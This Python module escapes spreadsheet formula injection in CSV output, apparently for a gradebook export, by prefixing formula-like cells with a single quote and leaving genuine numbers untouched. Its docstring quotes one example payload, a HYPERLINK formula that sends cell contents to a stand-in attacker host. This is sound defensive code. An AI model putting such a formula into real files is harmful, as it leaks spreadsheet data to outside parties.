"""CSV files a spreadsheet can open safely (no formula injection).

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and Excel also a cell that starts with a tab or a carriage return. A student id or answer
such as ``=HYPERLINK("http://evil.example?"&A1)`` would then run when the instructor opens
``gradebook.csv``. As OWASP recommends ("CSV Injection"), such a cell is written with a
single quote in front, which the spreadsheet shows as plain text. A genuine number
(``-1.5``, ``+2``, ``3e-4``) is left as it is, so numeric columns stay numeric.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(cell: object) -> object:
    """``cell`` as it may be written to a CSV file: text starting like a formula gets a
    leading single quote; numbers, and text that is exactly a number, are unchanged."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
        return cell
    if _NUMBER.fullmatch(cell):
        return cell
    return "'" + cell


def restore(cell: str) -> str:
    """A cell read back from a file written with :func:`csv_text`: the single quote put in
    front of formula-like text is taken off again (``'=x`` → ``=x``)."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The CSV text of ``rows`` (``\\n`` line ends), every cell neutralised."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(
        [neutralise(cell) for cell in row] for row in rows
    )
    return buffer.getvalue()
